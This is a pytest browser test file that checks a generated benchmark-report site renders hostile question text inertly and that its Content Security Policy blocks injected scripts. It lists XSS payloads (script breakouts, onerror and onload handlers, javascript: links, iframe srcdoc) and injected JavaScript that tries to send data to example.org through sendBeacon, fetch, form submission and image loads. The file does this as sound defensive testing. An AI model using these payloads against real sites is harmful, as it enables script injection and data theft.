"""Hostile texts (row 20 of docs/maintainers/failures.md) and attempts to break the policy, in a real browser."""

from typing import Any

import pytest
import reading_data

from llmxray.report import build
from llmxray.report.site.single_file import single
from llmxray.types import Item

pytestmark = pytest.mark.browser

HOSTILE = (
    "</script><script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 2'>",
    "[click](javascript:window.broken=3) <a href='javascript:window.broken=3'>click</a>",
    "{{7*7}} ${7*7} {% for x in y %}",
    "\u202ereversed\u202c \x1b[31mred\x1b[0m \ud800 \u2028 \u2029 '\\\" --> ]]>",
    "<svg onload='window.broken = 4'><style>body{display:none}</style>",
    "'><iframe srcdoc='<script>parent.broken=5</script>'>",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Questions, options, answers and tokens that try; the site and the single file of them."""
    folder = tmp_path_factory.mktemp("hostile")
    items = [
        Item(f"q{n}", text, (f"{text} one", f"{text} two"), "AB"[n % 2], text, difficulty=1, why=text)
        for n, text in enumerate(HOSTILE)
    ]

    def tell(trial: Any, _: int) -> Any:
        text = HOSTILE[int(trial.item[1:])].replace("\ud800", "")
        return [("A", 0.6, [("A", 0.6), (text, 0.3)]), *reading_data.words(f"\n{text}")]

    data = reading_data.benchmark(folder / "cassette", tell, items)
    build([data], folder / "site")
    single([data], folder)
    return folder


def test_hostile_texts_are_shown_and_do_nothing(hostile, page):
    """Every page and every question, from disk, and the single file: nothing ran, no element of theirs."""
    addresses = [path.as_uri() for path in sorted((hostile / "site/tiny").glob("*.html"))]
    addresses += [
        f"{(hostile / 'site/tiny/answer.html').as_uri()}?q=tiny/things/q{n}" for n in range(len(HOSTILE))
    ]
    for address in (*addresses, (hostile / "tiny.html").as_uri() + "?q=tiny/things/q6"):
        page.goto(address)
        page.wait_for_timeout(50)
        assert (address, page.faults) == (address, [])
        elements = "document.querySelectorAll('iframe, main img, main style, a[href^=javascript]').length"
        assert page.evaluate(f"[typeof window.broken, {elements}]") == ["undefined", 0]
    assert "srcdoc" in page.inner_text("body")


_MAKE = "const made = document.createElement('{tag}'); made.{what}; document.{where}.append(made)"


def _element(tag: str, what: str, where: str = "head") -> str:
    return _MAKE.format(tag=tag, what=what, where=where)


BREAKS = {
    "an inline script": _element("script", "textContent = 'window.broken = 1'"),
    "a handler": """document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.broken = 1">')""",
    "eval": "try { eval('window.broken = 1') } catch {}",
    "a function from text": "try { Function('window.broken = 1')() } catch {}",
    "a javascript link": _element("a", "href = 'javascript:window.broken=1'", "body") + "; made.click()",
    "a data script": _element("script", "src = 'data:text/javascript,window.broken=1'"),
    "a foreign script": _element("script", "src = 'https://example.org/x.js'"),
    "a frame": _element("iframe", "srcdoc = '<script>parent.broken = 1</' + 'script>'", "body"),
    "a style": _element("style", "textContent = 'body { --broken: 1 }'"),
    "a picture from elsewhere": _element("img", "src = 'https://example.org/secret.png'", "body"),
    "fetch": "fetch('https://example.org/').then(() => { window.broken = 1 }, () => {})",
    "a beacon": "navigator.sendBeacon('https://example.org/', 'secret')",
    "a form": _element("form", "action = 'https://example.org/'", "body") + "; made.submit()",
    "another base": _element("base", "href = 'https://example.org/'"),
}


# Until the policy has stopped something, and a while longer for what it may have let through.
_SETTLED = """(most_ms) => new Promise((done) => {
  const look = () => {
    if (window.stopped.length || performance.now() > until) setTimeout(done, 60);
    else setTimeout(look, 5);
  };
  const until = performance.now() + most_ms;
  look();
})"""


@pytest.mark.parametrize(
    ("where", "name"),
    [
        *(("site/tiny/answers.html", name) for name in BREAKS),
        *(("tiny.html", name) for name in ("an inline script", "a handler", "a style", "fetch")),
    ],
)
def test_the_policy_holds_against_a_script_that_got_in(hostile, chromium, where, name):
    """Even with code running in the page, nothing inline runs and nothing leaves it."""
    context = chromium.new_context()
    page = context.new_page()
    left: list[str] = []
    page.on("response", lambda reply: left.append(reply.url) if reply.url.startswith("http") else None)
    page.on(
        "requestfailed",
        lambda asked: (
            left.append(asked.url) if asked.failure != "csp" and asked.url.startswith("http") else None
        ),
    )
    page.goto((hostile / where).as_uri())
    page.evaluate(
        "window.stopped = []; document.addEventListener('securitypolicyviolation', "
        "(event) => window.stopped.push(event.effectiveDirective))"
    )
    # In a timer: what the debugger itself evaluates is let off the policy.
    page.evaluate(f"() => {{ setTimeout(() => {{ {BREAKS[name]} }}, 0) }}")
    # A frame made of text takes the policy over, and its own document reports what was stopped.
    reports = name != "a frame"
    page.evaluate(_SETTLED, 10_000 if reports else 0)
    state = page.evaluate(
        "[typeof window.broken, getComputedStyle(document.body).getPropertyValue('--broken'), document.baseURI, "
        "window.stopped.length]"
    )
    context.close()
    assert state[:2] == ["undefined", ""]
    assert state[2].startswith("file:")
    assert state[3] > 0 or not reports, "the policy has not said that it stopped this"
    assert left == []
